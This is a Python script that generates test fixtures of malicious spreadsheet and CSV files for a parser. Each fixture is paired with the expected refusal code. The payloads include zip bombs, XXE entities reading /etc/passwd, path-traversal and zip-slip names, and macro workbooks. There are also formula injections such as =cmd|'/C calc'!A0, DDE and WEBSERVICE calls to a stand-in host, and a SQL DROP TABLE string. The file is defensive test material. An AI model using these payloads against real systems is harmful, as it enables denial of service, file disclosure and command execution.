"""Makes tests/loop/hostile/: files that want to do harm or are no list at all, and what each must be answered with.

Run by hand: `python -m tests.loop.make_hostile`. `files.csv` has per file the code of the refusal, or `read` with the
number of rows where the harm is simply not done and the list is read.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from pathlib import Path

from .make_returned import DECLARATION, PEOPLE, SHORT, STYLES, _csv, _table, book_parts, inline, pack

FOLDER = Path(__file__).parent / "hostile"
CASES: list[tuple[str, str, int, str]] = []


def case(file: str, answer: str, what: str, rows: int = 0) -> Path:
    CASES.append((file, answer, rows, what))
    return FOLDER / file


def _xlsx(
    path: Path,
    sheet: str = "",
    method: int = zipfile.ZIP_DEFLATED,
    more: dict[str, str | bytes] | None = None,
    **others: str,
) -> None:
    pack(path, book_parts(sheet or inline(_table()), styles=STYLES, **others) | (more or {}), method)


def _zip(parts: list[tuple[str, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts:
            archive.writestr(zipfile.ZipInfo(name), text, compress_type=zipfile.ZIP_DEFLATED)
    return made.getvalue()


def unpacked(path: Path) -> dict[str, bytes]:
    """The parts of a file of the corpus."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _good() -> dict[str, str | bytes]:
    return book_parts(inline(_table()), styles=STYLES)


def bombs() -> None:
    # bzip2 packs a run of blanks a million times: 300 MB are a few hundred bytes.
    blank = " " * (30 << 20)
    _xlsx(
        case("bomb-blanks.xlsx", "unpacked", "解压300MB的空白"),
        more={f"xl/media/{n}.bin": blank for n in range(10)},
        method=zipfile.ZIP_BZIP2,
    )
    _xlsx(
        case("bomb-sheet.xlsx", "unpacked", "工作表解压后超过限度"),
        "<sheetData>" + " " * (210 << 20) + "</sheetData>",
        zipfile.ZIP_BZIP2,
    )
    rows = "<sheetData>" + "<row><c><v>1</v></c></row>" * 60_001 + "</sheetData>"
    _xlsx(case("bomb-rows.xlsx", "too_many_rows", "六万零一行"), rows, zipfile.ZIP_BZIP2)
    cells = "<sheetData><row>" + "<c/>" * 13_000_000 + "</row></sheetData>"
    _xlsx(case("bomb-cells.xlsx", "suspicious", "一行里一千三百万个空单元格"), cells, zipfile.ZIP_BZIP2)
    empty = "<sheetData>" + "<row/>" * 1_048_577 + "</sheetData>"
    _xlsx(case("bomb-empty-rows.xlsx", "suspicious", "行号超出表格的空行"), empty, zipfile.ZIP_BZIP2)
    _xlsx(
        case("bomb-strings.xlsx", "too_many_rows", "一百五十万个共享字符串"),
        strings="<si/>" * 1_500_001,
        method=zipfile.ZIP_BZIP2,
    )
    deep = "<sheetData>" + "<a>" * 400_000 + "</a>" * 400_000 + "</sheetData>"
    _xlsx(case("bomb-depth.xlsx", "empty", "四十万层嵌套"), deep, zipfile.ZIP_BZIP2)
    names = "<sheetData>" + "".join(f"<n{number}/>" for number in range(6_000)) + "</sheetData>"
    _xlsx(case("bomb-names.xlsx", "suspicious", "六千种元素名"), names)
    merges = inline(_table()) + "<mergeCells>" + '<mergeCell ref="C2:C1048576"/>' * 30_000 + "</mergeCells>"
    _xlsx(case("bomb-merges.xlsx", "read", "三万个重叠的合并区域", 10), merges, zipfile.ZIP_BZIP2)
    rows = inline([*_table(), *([["x", "y", None, None, None, None]] * 3_000)])
    merges = "<mergeCells>" + '<mergeCell ref="C2:C1048576"/>' * 19_000 + "</mergeCells>"
    _xlsx(case("bomb-merges-filled.xlsx", "suspicious", "合并区域反复填满三千行"), rows + merges, zipfile.ZIP_BZIP2)
    heads = (
        "<sheetData>"
        + "".join(f'<row><c t="inlineStr"><is><t>{text}</t></is></c></row>' for text in ("x", "y")).replace(
            "<row>",
            "<row>"
            + "".join(
                f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in ("姓名", "核实结果", "核实日期", "说明")
            ),
        )
        * 15_000
    )
    _xlsx(case("bomb-heads.xlsx", "no_key_column", "三万个表头"), heads + "</sheetData>", zipfile.ZIP_BZIP2)
    data = _zip([("xl/workbook.xml", b"<workbook/>"), *((f"xl/x{number}", b"") for number in range(2_100))])
    case("bomb-parts.xlsx", "suspicious", "两千多个部件").write_bytes(data)
    inner = _zip([(f"{number}.xml", blank.encode()) for number in range(2)])
    case("bomb-nested.zip", "archive", "压缩包里的压缩包").write_bytes(
        _zip([(f"{number}.zip", inner) for number in range(3)])
    )
    lying = bytearray(
        _zip(
            [
                (name, text.encode() if isinstance(text, str) else text)
                for name, text in (
                    _good()
                    | {
                        "xl/worksheets/sheet1.xml": "<worksheet><sheetData>"
                        + " " * (20 << 20)
                        + "</sheetData></worksheet>"
                    }
                ).items()
            ]
        )
    )
    size = struct.pack("<I", len("<worksheet><sheetData></sheetData></worksheet>") + (20 << 20))
    case("bomb-lying.xlsx", "damaged", "声称的大小比实际小").write_bytes(
        bytes(lying).replace(size, struct.pack("<I", 100))
    )


def code_and_entities() -> None:
    _xlsx(case("macro.xlsm", "macros", "带宏的工作簿"), more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    _xlsx(
        case("macro-renamed.xlsx", "macros", "带宏的工作簿，改名为 .xlsx"),
        more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
    )
    _xlsx(case("macro-sheet.xlsx", "macros", "Excel 4 宏表"), more={"xl/macrosheets/sheet1.xml": "<x/>"})
    ods = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office:document-content/>"}
    pack(case("macro.ods", "macros", "带Basic程序的 .ods"), ods | {"Basic/script-lc.xml": "<x/>"})
    case("macro.xls", "macros", "带宏的 .xls").write_bytes(ole(["Workbook", "_VBA_PROJECT_CUR", "VBA"]))
    laughs = (
        "<!DOCTYPE x ["
        + '<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        + "]>"
    )
    sheet = _good()["xl/worksheets/sheet1.xml"]
    assert isinstance(sheet, str)
    for file, what, doctype, text in (
        ("entity-laughs.xlsx", "实体层层展开", laughs, "&a9;"),
        ("entity-file.xlsx", "外部实体指向本机文件", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        (
            "entity-parameter.xlsx",
            "外部参数实体",
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
            "",
        ),
        ("doctype.xlsx", "只有外部DTD声明", '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">', ""),
    ):
        made = sheet.replace(DECLARATION, DECLARATION + doctype).replace("外出读书", "外出" + text)
        pack(case(file, "suspicious", what), _good() | {"xl/worksheets/sheet1.xml": made})
    wide = sheet.replace(DECLARATION, f'<?xml version="1.0" encoding="UTF-16"?>{laughs}').encode("utf-16")
    pack(case("entity-utf16.xlsx", "suspicious", "UTF-16编码里藏实体"), _good() | {"xl/worksheets/sheet1.xml": wide})
    strings = "<!DOCTYPE sst [<!ENTITY e 'x'>]><sst><si><t>&e;</t></si></sst>"
    pack(
        case("entity-strings.xlsx", "suspicious", "共享字符串里的实体"),
        book_parts(inline(_table()), strings="<si/>", styles=STYLES) | {"xl/sharedStrings.xml": strings},
    )
    pack(
        case("entity.ods", "suspicious", ".ods里的实体"),
        ods | {"content.xml": f"<?xml version='1.0'?>{laughs}<office:document-content/>"},
    )
    pack(
        case("undefined-entity.xlsx", "damaged", "未定义的实体"),
        _good() | {"xl/worksheets/sheet1.xml": sheet.replace("外出读书", "&nope;")},
    )
    table = _table()
    evil = [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://127.0.0.1:9/?"&A2,"点我")',
        '=WEBSERVICE("http://127.0.0.1:9/")',
        "@SUM(1+1)",
        "+1+1",
        "-2+3",
        "\t=1",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "'; DROP TABLE receipt; --",
    ]
    for row, text in zip(table[1:], evil, strict=True):
        row[5] = text
    _xlsx(case("formula-text.xlsx", "read", "说明里写了公式、脚本和语句：只当文字", 10), inline(table))
    case("formula-text.csv", "read", "CSV里写了公式：只当文字", 10).write_text(_csv(table), "utf-8-sig")
    dde = inline(_table()).replace('<c r="F2"/>', '<c r="F2" t="str"><f>DDE("cmd","/C calc","x")</f><v>DDE</v></c>')
    _xlsx(case("formula-dde.xlsx", "read", "DDE公式：只取已算出的文字", 10), dde)


def links_and_paths() -> None:
    parts = _good()
    relations = str(parts["xl/_rels/workbook.xml.rels"])
    outside = relations.replace(
        'Target="worksheets/sheet1.xml"', 'Target="http://127.0.0.1:9/sheet.xml" TargetMode="External"'
    )
    pack(case("link-sheet.xlsx", "empty", "工作表指向网址"), parts | {"xl/_rels/workbook.xml.rels": outside})
    for file, target in (
        ("path-up.xlsx", "../../../../../../etc/passwd"),
        ("path-absolute.xlsx", "/etc/passwd"),
        ("path-file.xlsx", "file:///etc/passwd"),
    ):
        changed = relations.replace('Target="worksheets/sheet1.xml"', f'Target="{target}"')
        pack(case(file, "empty", f"工作表的路径是 {target}"), parts | {"xl/_rels/workbook.xml.rels": changed})
    link = relations.replace(
        "</Relationships>",
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    more = {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships><Relationship Id="r" Type="x/externalLinkPath" Target="\\\\127.0.0.1\\x\\y.xlsx" TargetMode="External"/></Relationships>',
    }
    pack(
        case("link-book.xlsx", "read", "引用别的工作簿（UNC路径）：不打开", 10),
        parts | {"xl/_rels/workbook.xml.rels": link} | more,
    )
    for file, name in (
        ("zip-up.xlsx", "../../evil.txt"),
        ("zip-drive.xlsx", "C:\\evil.txt"),
        ("zip-unc.xlsx", "//127.0.0.1/evil.txt"),
        ("zip-case.xlsx", "XL/WORKBOOK.XML"),
    ):
        pack(case(file, "suspicious", f"压缩包内的文件名 {name}"), parts | {name: "x"})
    many = [(name, text.encode() if isinstance(text, str) else text) for name, text in parts.items()]
    case("zip-twice.xlsx", "suspicious", "压缩包内同一部件有两份").write_bytes(_zip([*many, many[-1]]))
    loop = relations.replace('Target="worksheets/sheet1.xml"', 'Target="workbook.xml"')
    pack(case("path-loop.xlsx", "empty", "工作表就是工作簿自己"), parts | {"xl/_rels/workbook.xml.rels": loop})


def locked_and_broken() -> None:
    case("encrypted.xlsx", "encrypted", "有打开密码的 .xlsx").write_bytes(ole(["EncryptionInfo", "EncryptedPackage"]))
    good = FOLDER.parent / "returned"
    data = bytearray(_zip([(name, text.encode() if isinstance(text, str) else text) for name, text in _good().items()]))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    case("encrypted-zip.xlsx", "encrypted", "压缩包加了密码").write_bytes(data)
    old = (good / "50-old.xls").read_bytes()
    begins = old.index(b"\x09\x08\x10\x00\x00\x06\x05\x00")
    locked = old[: begins + 20] + struct.pack("<HH20s", 0x2F, 20, b"\1\0\1\0\1\0" + b"k" * 14) + old[begins + 44 :]
    case("encrypted.xls", "encrypted", "有打开密码的 .xls").write_bytes(locked)
    whole = (good / "01-as-sent.xlsx").read_bytes()
    for file, data_, what in (
        ("cut.xlsx", whole[: len(whole) // 2], "传了一半的 .xlsx"),
        ("cut.xls", old[: len(old) // 3], "传了一半的 .xls"),
        ("cut.ods", (good / "52-open.ods").read_bytes()[:-500], "传了一半的 .ods"),
        ("head-only.xlsx", b"PK\x03\x04" + b"\0" * 60, "只有文件头"),
        ("head-only.xls", old[:512], "只有文件头"),
    ):
        case(file, "damaged", what).write_bytes(data_)
    spoiled = bytearray(whole)
    spoiled[len(whole) // 3 : len(whole) // 3 + 400] = b"\xaa" * 400
    case("spoiled.xlsx", "damaged|suspicious", "中间坏了一段").write_bytes(spoiled)
    case("zeros.xlsx", "unknown", "全是零").write_bytes(b"\0" * 4096)
    case("empty.csv", "empty", "0字节").write_bytes(b"")
    case("blank.csv", "empty", "只有空行").write_bytes(b"\r\n \r\n,,,\r\n")
    sheet = str(_good()["xl/worksheets/sheet1.xml"])
    pack(case("broken-xml.xlsx", "damaged", "XML不成对"), _good() | {"xl/worksheets/sheet1.xml": sheet[:-40]})
    pack(
        case("control-signs.xlsx", "damaged", "XML里有控制字符"),
        _good() | {"xl/worksheets/sheet1.xml": sheet.replace("外出", "\x01")},
    )
    pack(
        case("bad-utf8.xlsx", "damaged", "XML里有坏的UTF-8"),
        _good() | {"xl/worksheets/sheet1.xml": sheet.encode().replace("外出".encode(), b"\xff\xfe")},
    )
    pack(
        case("escapes.xlsx", "read", "转义出空字符和半个代理对", 10),
        _good()
        | {
            "xl/worksheets/sheet1.xml": sheet.replace("外出读书", "_x0000__xD800__xFFFF_外出").replace(
                "当地参保", "\U0001f600"
            )
        },
    )
    pack(case("no-sheet.xlsx", "damaged", "没有工作簿部件"), {"[Content_Types].xml": "<Types/>", "x.xml": "<x/>"})
    pack(
        case("numbers.xlsx", "read", "数字单元格是怪值", 10),
        _good()
        | {
            "xl/worksheets/sheet1.xml": sheet.replace(
                's="1"><v>46', 's="1"><v>1e308</v></c><c s="1"><v>nan</v></c><c s="1"><v>-46', 1
            ).replace('s="1"><v>46', 's="99999999999"><v>inf', 1)
        },
    )


def shapes() -> None:
    far = (
        inline(_table())
        .replace("</row>", '<c r="XFD1"><v>1</v></c></row>', 1)
        .replace(
            "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        )
    )
    _xlsx(case("far-cell.xlsx", "read", "最右下角有一格", 10), '<dimension ref="A1:XFD1048576"/>' + far)
    _xlsx(
        case("far-column.xlsx", "suspicious", "列号超出表格（百万列）"), inline(_table()).replace('r="A2"', 'r="ZZZZ2"')
    )
    _xlsx(
        case("far-row.xlsx", "suspicious", "行号超出表格"), inline(_table()).replace('<row r="3"', '<row r="99999999"')
    )
    _xlsx(case("backwards.xlsx", "suspicious", "行号倒着来"), inline(_table()).replace('<row r="5"', '<row r="1"'))
    _xlsx(case("place.xlsx", "suspicious", "单元格位置不是位置"), inline(_table()).replace('r="A2"', 'r="../A2"'))
    wide = [[*SHORT, *(f"列{number}" for number in range(600))]]
    data = (
        "<sheetData><row>"
        + "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in wide[0])
        + "</row></sheetData>"
    )
    _xlsx(case("columns.xlsx", "too_many_columns", "六百列"), data)
    long = _table()
    long[1][5] = "长" * 40_000
    long[2][1] = "A" * 2_000_000
    long[3][0] = "K" * 100_000
    _xlsx(case("long-cells.xlsx", "read", "几百万字的单元格", 10), inline(long), zipfile.ZIP_BZIP2)
    book = "<sheets>" + "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 500)) + "</sheets>"
    parts = _good()
    pack(
        case("sheets.xlsx", "too_many_sheets", "五百张工作表"),
        parts | {"xl/workbook.xml": f'<workbook xmlns:r="r">{book}</workbook>'},
    )
    repeated = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    spaces = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet><table:table table:name="x">{repeated}</table:table></office:spreadsheet></office:body></office:document-content>'
    ods = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": content,
        "META-INF/manifest.xml": "<manifest/>",
    }
    pack(
        case("bomb-repeated.ods", "too_large|too_slow|damaged|too_many_rows|too_many_columns", "一格重复一百七十亿次"),
        ods,
    )


def texts() -> None:
    case("columns.csv", "too_many_columns", "十万列的CSV").write_bytes(b"\r\n".join([b",".join([b"a"] * 100_000)] * 2))
    case("commas.csv", "no_list", "几百万个逗号").write_bytes(b"," * 300_000 + b"x\n")
    case("rows.csv", "too_many_rows", "六万多行").write_bytes(b"1\n" * 60_010)
    case("quote.csv", "cut_off", "引号不结束").write_text(_csv(_table()) + '"' + "x\n" * 1000)
    case("quotes.csv", "no_list", "全是引号").write_bytes(b'"' * 100_000)
    case("nul.csv", "unknown", "空字节").write_bytes(_csv(_table()).encode().replace("外出".encode(), b"\0\0"))
    case("nul-late.csv", "unknown", "后半部分有空字节").write_bytes(_csv(_table()).encode() + b"x,y\n" * 5_000 + b"\0")
    case("half-gbk.csv", "encoding", "一半UTF-8一半GBK").write_bytes(
        _csv(_table()).encode() * 3 + _csv(_table()).encode("gb18030")
    )
    case("long-cell.csv", "read", "一格三十万字", 10).write_text(
        _csv([*_table()[:-1], [*_table()[-1][:5], "长" * 100_000]]), "utf-8"
    )
    case("no-list.csv", "no_list", "与名单无关的表").write_text("姓名,电话\n某,1\n", "utf-8")
    case("no-key.csv", "no_key_column", "有答复，没有行码和证件号码").write_text(
        "姓名,核实结果,核实日期\n某,D1,2026-11-25\n", "utf-8"
    )
    codes = "".join(f"{one.code},{one.name},{one.reason}\n" for one in PEOPLE)
    case("no-head.csv", "no_header", "表头被删").write_text(codes, "utf-8")


def kinds() -> None:
    for file, answer, data, what in (
        ("pdf.xlsx", "pdf", b"%PDF-1.4\n%\xe2\xe3\n", "PDF改名"),
        ("picture.xls", "picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "图片改名"),
        ("photo.csv", "picture", b"\xff\xd8\xff\xe0" + b"\0" * 40, "照片改名"),
        ("web.xls", "web", "<html><table><tr><td>行码</td></tr></table></html>".encode(), "网页另存的 .xls"),
        (
            "old-xml.xls",
            "xml_sheet",
            b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
            "2003版XML表格",
        ),
        ("rich.csv", "word", b"{\\rtf1 x}", "RTF文档改名"),
        ("program.xls", "unknown", b"MZ\x90\0\x03\0\0\0" + b"\0" * 60, "程序改名"),
        ("packed.csv.gz", "archive", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0", "gzip"),
        ("packed.rar", "archive", b"Rar!\x1a\x07\x00" + b"\0" * 40, "RAR"),
    ):
        case(file, answer, what).write_bytes(data)
    pack(case("letter.xlsx", "word", "Word文档改名"), {"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"})
    pack(
        case("binary.xlsb", "xlsb", "二进制工作簿"), {"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01"}
    )
    case("letter.xls", "word", "Word 97文档改名").write_bytes(ole(["WordDocument", "1Table"]))
    case("other.xls", "unknown", "别的OLE文件").write_bytes(ole(["__properties_version1.0"]))


def ole(names: list[str]) -> bytes:
    """The smallest OLE file with empty streams of these names."""
    entries = b"".join(_entry(name, 5 if place == 0 else 2) for place, name in enumerate(["Root Entry", *names]))
    entries = entries.ljust((len(entries) + 511) // 512 * 512, b"\0")
    head = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    )
    table = struct.pack("<I", 0) + b"\xff" * 432
    sectors = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504
    return (head + table)[:512].ljust(512, b"\xff") + sectors + entries


def _entry(name: str, kind: int) -> bytes:
    text = name.encode("utf-16-le")
    return (
        text.ljust(64, b"\0")
        + struct.pack("<HBB", len(text) + 2, kind, 1)
        + b"\xff" * 12
        + b"\0" * 36
        + struct.pack("<IQ", 0xFFFFFFFE, 0)
    )


def main() -> None:
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.iterdir():
        old.unlink()
    for make in (bombs, code_and_entities, links_and_paths, locked_and_broken, shapes, texts, kinds):
        make()
    with (FOLDER / "files.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["file", "answer", "rows", "what"])
        writer.writerows(CASES)


if __name__ == "__main__":
    main()
